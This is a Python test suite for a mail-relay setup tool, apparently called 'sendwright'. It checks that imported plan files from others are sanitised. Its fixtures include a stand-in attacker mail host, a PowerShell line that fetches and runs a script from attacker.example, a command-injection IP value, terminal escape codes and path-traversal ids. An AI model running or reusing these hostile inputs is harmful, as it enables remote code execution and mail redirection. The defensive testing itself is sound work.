"""A plan is a file that somebody sent: it brings answers, and decides nothing by itself."""

from __future__ import annotations

import asyncio
import os
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from app.cli.naming import find_client
from app.domain.errors import AppError
from app.domain.finding import Actor, Finding, Legacy, Severity
from app.domain.organisation.client import Client, ClientId, CloudId, Detection, SignInAnswers
from app.domain.organisation.draft import Draft
from app.domain.path import SendingPath
from app.domain.secret import Secret
from app.services.clients import draft_client
from app.services.engine import Engine
from app.services.handing_over import hand_over
from app.services.plans import TakenPlan, open_plan
from app.services.preparing import steps_of
from app.services.settings import settings_of
from app.store.folders import Folders
from app.store.secrets import MemorySecrets
from tests.wording import ENGLISH, all_of, in_words

EVIL = "mail.attacker.example"
CLOUD = f"""
schema = 1
id = "worldwide"
name = ""
[smtp]
host = "{EVIL}"
port = 587
[relay]
port = 25
mx_suffixes = [".attacker.example"]
[identity]
authority = "https://{EVIL}"
scope = "s"
[dns]
spf_include = "spf.{EVIL}"
dkim_suffixes = [".attacker.example"]
autodiscover = "autodiscover.{EVIL}"
"""
HONEST = Draft(
    typed="printer@contoso.com", path=SendingPath.RELAY_IP.value, fixed_ips=("198.51.100.7",)
)


@pytest.fixture
def engine(tmp_path: Path) -> Engine:
    return Engine(Folders.under(tmp_path / "home"))


def sent(engine: Engine, folder: Path, client: Client) -> TakenPlan:
    """Open a client as a plan that came by mail."""
    plan = folder / "office.sendwright"
    plan.write_bytes(engine.clients.to_bytes(client))
    return asyncio.run(open_plan(plan, engine.clouds, engine.signing, engine.clients))


def test_a_plans_cloud_file_is_never_opened_and_that_is_said(
    engine: Engine, tmp_path: Path
) -> None:
    (tmp_path / "cloud.toml").write_text(CLOUD)
    evil = replace(
        draft_client(HONEST, engine.clouds, engine.clients), cloud_file=str(tmp_path / "cloud.toml")
    )
    assert engine.clouds.of_client(evil).smtp.host == EVIL  # the attack is real
    taken = sent(engine, tmp_path, evil)
    assert taken.client.cloud_file == ""
    assert engine.clouds.of_client(taken.client) == engine.catalogue.clouds[CloudId("worldwide")]
    assert engine.clients.load(taken.client.id).cloud_file == ""
    assert "plan.left_out.cloud_file" in [one.code for one in taken.findings]


def test_a_cloud_that_this_computer_does_not_know_is_not_kept(
    engine: Engine, tmp_path: Path
) -> None:
    taken = sent(
        engine,
        tmp_path,
        replace(draft_client(HONEST, engine.clouds, engine.clients), cloud=CloudId("evil\x1b[2J")),
    )
    assert taken.client.cloud == "worldwide"
    assert "plan.left_out.cloud" in [one.code for one in taken.findings]
    assert not any("\x1b" in all_of(one) for one in taken.findings)


def test_a_plan_names_no_host_that_mail_would_go_to(engine: Engine, tmp_path: Path) -> None:
    client = draft_client(HONEST, engine.clouds, engine.clients)
    found = Detection(
        domain=client.domain, tenant_id="t", mx=(EVIL,), microsoft_mx=EVIL, cloud=client.cloud
    )
    evil = replace(client, detection=found)
    assert (
        settings_of(evil, engine.clouds.of_client(evil), engine.catalogue).server.host == EVIL
    )  # the attack is real
    taken = sent(engine, tmp_path, evil)
    assert taken.client.detection is None
    with pytest.raises(AppError):  # until the host is looked up here
        settings_of(taken.client, engine.clouds.of_client(taken.client), engine.catalogue)
    steps = steps_of(taken.client, engine.clouds)
    assert EVIL not in repr(steps)
    assert EVIL not in repr(tuple(map(ENGLISH.step, steps)))


@pytest.mark.parametrize(
    ("sign_in", "left"),
    [
        (SignInAnswers(application_id="https://attacker.example"), "application id"),
        (SignInAnswers(server_application_id="{0}{nope}"), "server application id"),
        (SignInAnswers(enterprise_object_id="x y"), "enterprise object id"),
    ],
)
def test_ids_that_could_not_be_typed_are_left_out(
    engine: Engine, tmp_path: Path, sign_in: SignInAnswers, left: str
) -> None:
    taken = sent(
        engine,
        tmp_path,
        replace(draft_client(HONEST, engine.clouds, engine.clients), sign_in=sign_in),
    )
    assert taken.client.sign_in == SignInAnswers()
    (told,) = (one for one in taken.findings if one.code == "plan.left_out.value")
    assert told.values["name"] == left
    assert left in in_words(told).title


def test_other_values_are_read_as_if_they_were_typed(engine: Engine, tmp_path: Path) -> None:
    client = draft_client(HONEST, engine.clouds, engine.clients)
    sender = replace(
        client.sender, fixed_ips=("10.0.0.1; calc",), from_name="A\u202eB\n", messages_per_day=-5
    )
    odd = replace(
        client, sender=sender, name="\x1b]0;x\x07", certificate_name="a b",
        message_language="../de", scenario="no such situation",
    )  # fmt: skip
    taken = sent(engine, tmp_path, odd).client
    assert taken.sender.fixed_ips == ()
    assert taken.certificate_name == ""
    assert taken.sender.messages_per_day == 0
    assert (taken.message_language, taken.scenario) == ("en", "")
    assert taken.name.isprintable()
    assert taken.sender.from_name.isprintable()


def test_a_valid_app_of_somebody_else_is_shown_before_anybody_approves_it(
    engine: Engine, tmp_path: Path
) -> None:
    theirs = "3f2504e0-4f89-41d3-9a0c-0305e82c3301"
    client = replace(
        draft_client(HONEST, engine.clouds, engine.clients),
        sign_in=SignInAnswers(application_id=theirs),
    )
    taken = sent(engine, tmp_path, client)
    (told,) = (one for one in taken.findings if one.code == "plan.brought.application_id")
    assert in_words(told).title == f"Application id: {theirs}"
    assert taken.findings[0].code == "plan.opened"


def test_a_plan_never_takes_an_id_that_the_keyring_knows(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    memory = MemorySecrets()
    memory.put("contoso-com", "app_certificate", Secret("key of a client that was removed"))
    monkeypatch.setattr(engine.signing._keyring, "_choose", lambda: memory)
    client = replace(
        draft_client(HONEST, engine.clouds, engine.clients), id=ClientId("contoso-com")
    )
    assert sent(engine, tmp_path, client).client.id == "contoso-com-2"


EVIL_FINDING = Finding(
    code="gone.for.good",
    severity=Severity.ERROR,
    subject="contoso.com",
    legacy=Legacy(
        title="Mail will stop tomorrow",
        who_acts=Actor.TENANT_ADMIN,
        fix=("Run in PowerShell: iex (irm https://attacker.example/own.ps1)",),
        sources=("https://attacker.example/login",),
    ),
)


def test_a_plans_findings_become_nobodys_instructions(engine: Engine, tmp_path: Path) -> None:
    evil = replace(
        draft_client(HONEST, engine.clouds, engine.clients),
        findings=(EVIL_FINDING,),
        tested_at=datetime.now(UTC),
    )
    assert "attacker" in repr(
        hand_over(evil, engine.clouds, engine.translation("en")).open
    )  # the attack is real
    taken = sent(engine, tmp_path, evil)
    assert (taken.client.findings, taken.client.tested_at) == ((), None)
    assert "attacker" not in repr(hand_over(taken.client, engine.clouds, engine.translation("en")))
    assert "plan.left_out.detection" in {finding.code for finding in taken.findings}


def test_a_plans_findings_prove_no_step(engine: Engine, tmp_path: Path) -> None:
    proof = Finding(code="relay.message.accepted", severity=Severity.OK, subject="x")
    evil = replace(draft_client(HONEST, engine.clouds, engine.clients), findings=(proof,))
    assert hand_over(evil, engine.clouds, engine.translation("en")).proved  # the attack is real
    assert not hand_over(
        sent(engine, tmp_path, evil).client, engine.clouds, engine.translation("en")
    ).proved


def test_a_practice_plan_brings_no_cloud(engine: Engine, tmp_path: Path) -> None:
    evil = replace(
        draft_client(HONEST, engine.clouds, engine.clients),
        scenario="all_well",
        cloud=CloudId("evil\x1b[2J"),
    )
    assert sent(engine, tmp_path, evil).client.cloud == "worldwide"


def test_a_plan_whose_id_is_none_opens_beside_what_the_keyring_knows(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    memory = MemorySecrets()
    memory.put("contoso-com", "sign_in", Secret("of a client that was removed"))
    monkeypatch.setattr(engine.signing._keyring, "_choose", lambda: memory)
    evil = replace(draft_client(HONEST, engine.clouds, engine.clients), id=ClientId("../Contoso"))
    assert sent(engine, tmp_path, evil).client.id == "contoso-com-2"


def test_no_plan_can_be_called_by_another_clients_id(engine: Engine, tmp_path: Path) -> None:
    mine = draft_client(HONEST, engine.clouds, engine.clients)
    engine.clients.save(mine)
    evil = replace(
        draft_client(Draft(typed="a@attacker.example"), engine.clouds, engine.clients),
        id=ClientId("aaa"),
        name=mine.id,
    )
    sent(engine, tmp_path, evil)
    assert find_client(engine, mine.id).domain == mine.domain
    assert find_client(engine, "contoso.com").domain == mine.domain


@pytest.mark.parametrize(
    "line",
    ["tested_at = 2026-11-29T00:00:00", "certificate_until = 0001-01-01"],
)
def test_odd_days_stop_no_command(engine: Engine, tmp_path: Path, line: str) -> None:
    client = replace(
        draft_client(HONEST, engine.clouds, engine.clients), path=SendingPath.RELAY_CERTIFICATE
    )
    text = engine.clients.to_bytes(client).decode()
    (tmp_path / "odd.sendwright").write_text(f"{line}\n{text}")
    taken = asyncio.run(
        open_plan(tmp_path / "odd.sendwright", engine.clouds, engine.signing, engine.clients)
    ).client
    assert hand_over(taken, engine.clouds, engine.translation("en")).review_on >= date.today()
    kept = replace(taken, certificate_until=date(1, 1, 1))
    assert hand_over(kept, engine.clouds, engine.translation("en")).review_on >= date.today()


def test_a_pipe_is_no_plan_and_nothing_waits_for_it(engine: Engine, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.sendwright")
    for file in (tmp_path / "pipe.sendwright", Path("/dev/zero")):
        with pytest.raises(AppError):
            asyncio.run(open_plan(file, engine.clouds, engine.signing, engine.clients))


def test_what_could_not_be_read_again_is_not_saved(engine: Engine, tmp_path: Path) -> None:
    large = replace(
        draft_client(HONEST, engine.clouds, engine.clients),
        targets=tuple(f"target-{number:06}" for number in range(80_000)),
    )
    with pytest.raises(AppError) as caught:
        engine.clients.save(large)
    assert caught.value.code == "store.client.too_large"
    assert not engine.clients.has(large.id)
